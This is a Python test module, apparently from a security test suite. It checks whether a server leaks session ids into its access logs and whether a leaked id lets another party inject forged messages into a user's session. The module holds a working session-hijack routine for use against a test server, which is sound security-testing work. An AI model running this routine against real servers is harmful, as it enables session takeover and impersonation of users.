"""Steals: a session, with its id from the server's log.

The id is in the URL of each POST, and access logs keep URLs. Anyone who may read logs, such as
a colleague or a log service, can send messages in the session.
"""

import re

from attacks.finding import Finding
from attacks.target import NotTried, Server, bearer, call, said

AGAINST = "server"
CASE = ""


async def attack(server: Server) -> Finding:
    if server.log is None:
        raise NotTried("needs the server's log")
    async with server.open(server.alice) as alice:
        await alice.initialize()
        found = re.findall(r"session_id=([\w-]+)", server.log())
        if alice.session_id not in found:
            # Suppose that she found the id elsewhere: is it of any use?
            answer = await server.post(
                alice.session_id, call("forged", "echo", message="x"), bearer(server.mallory)
            )
            if answer.status_code == 202:
                return Finding(True, "not in the log, but anyone who has the id can use it")
            return Finding(False, f"not in the log; and with the id: {answer.status_code}")
        message = call("forged", "echo", message="I read your id in a log.")
        await server.post(found[-1], message, {})
        reply = await alice.reply("forged")
        return Finding(True, f"on Alice's stream: {said(reply)!r}")
